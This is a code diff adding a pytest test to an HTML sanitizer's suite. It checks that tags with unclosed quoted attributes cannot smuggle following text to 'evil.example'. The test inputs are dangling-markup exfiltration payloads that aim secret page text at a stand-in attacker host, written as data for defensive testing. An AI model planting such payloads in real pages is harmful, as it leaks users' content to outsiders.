@@ -198,6 +198,18 @@ def test_clean(given_: str, expected: str) -> None:
     assert markup.clean(given_) == expected
 
 
+@pytest.mark.parametrize(
+    "tag",
+    ["img src='", 'a href="', "blockquote cite='", "video src='", "audio src='", "video src='https://lantern.example/a.mp4' poster='"],
+)
+def test_an_address_that_is_never_closed_carries_no_text_elsewhere(tag: str) -> None:
+    quote = tag[-1]
+    source = f"<p>Before.</p><{tag}https://evil.example/?<p>A secret.</p><p>It{quote}s told.</p>"
+    assert "evil.example" not in markup.clean(source)
+    closed = f"<p>Before.</p><{tag}https://evil.example/a.mp4{quote} controls>It is told.</{tag.split()[0]}>"
+    assert "evil.example" in markup.clean(closed)
+
+
 def test_relative_references_are_resolved() -> None:
     assert markup.clean('<a href="b">x</a>', "https://e.org/a/") == '<p><a href="https://e.org/a/b">x</a></p>'
 
